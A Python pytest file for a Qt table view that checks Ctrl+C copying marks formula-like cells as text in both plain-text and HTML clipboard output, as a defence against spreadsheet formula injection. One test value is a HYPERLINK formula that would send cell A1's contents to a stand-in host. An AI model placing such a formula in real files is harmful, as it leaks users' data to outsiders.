"""Ctrl+C never hands a spreadsheet a formula: in the plain-text flavour a formula-like cell is
marked text (a leading apostrophe), and the HTML flavour marks it also after leading spaces or
tabs, which Excel skips. Through the real clipboard (offscreen Qt)."""

from __future__ import annotations

import re

from PySide6.QtCore import QItemSelectionModel, Qt
from PySide6.QtGui import QGuiApplication

from zdesk.ui.models.table import Column, RecordTableModel
from zdesk.ui.views import make_table

FORMULAS = [
    '=HYPERLINK("https://elders.example/?d="&A1,"klik")',
    " =1+1",
    "\t=1+1",
    "+31 6 1234",
    "@SUM(A1:A9)",
    "-2+3",
]
HARMLESS = ["-5", "4a", "havo.grp1"]


def copied(qtbot, texts):
    model = RecordTableModel([Column("Naam", lambda r: r, role="name")])
    model.set_rows(texts)
    view = make_table(model)
    qtbot.addWidget(view)
    view.show()
    qtbot.waitExposed(view)
    view.setFocus()
    flags = QItemSelectionModel.SelectionFlag.Select | QItemSelectionModel.SelectionFlag.Rows
    for row in range(len(texts)):
        view.selectionModel().select(model.index(row, 0), flags)
    QGuiApplication.clipboard().clear()
    qtbot.keyClick(view, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    mime = QGuiApplication.clipboard().mimeData()
    text, html = mime.text(), mime.html()
    # Emptied again: data left on the clipboard crashes the offscreen platform as Qt ends.
    QGuiApplication.clipboard().clear()
    return text.splitlines()[1:], re.findall(r"<td([^>]*)>", html)


def test_formula_like_cells_are_marked_text_in_both_flavours(qtbot):
    lines, cells = copied(qtbot, FORMULAS + HARMLESS)
    marked = [line for line in lines if line.startswith("'")]
    assert len(marked) == len(FORMULAS)
    assert lines[: len(FORMULAS)] == ["'" + text.replace("\t", " ") for text in FORMULAS]
    assert lines[len(FORMULAS) :] == HARMLESS
    as_text = ["mso-number-format" in attributes for attributes in cells]
    assert as_text[: len(FORMULAS)] == [True] * len(FORMULAS)
    assert as_text[len(FORMULAS) + 1 :] == [False, False]  # "-5" may stay text; codes stay plain
